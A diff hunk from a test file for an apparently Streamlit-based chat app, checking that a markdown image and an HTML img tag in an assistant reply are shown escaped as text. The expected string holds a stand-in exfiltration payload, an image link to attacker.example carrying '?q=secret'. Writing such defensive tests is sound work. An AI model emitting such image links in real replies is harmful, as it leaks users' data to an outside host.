@@ -349,5 +349,5 @@ def test_an_image_or_html_in_a_reply_is_shown_as_text_and_its_markdown_kept(open
     app.chat_input(key="text_generation.prompt").set_value("Summarise").run()
     assert not app.exception, [e.value for e in app.exception]
     assert _assistant_texts(app)[0].startswith(
-        "**Done** &#33;[](http://attacker.example/?q=secret) &lt;img src=http://attacker.example/b.png>\n\n`a < b`"
+        "**Done** &#33;[](http://attacker.example/?q=secret) &lt;img src=http://attacker.example/b.png>\n\n`a <\u2060 b`"
     )
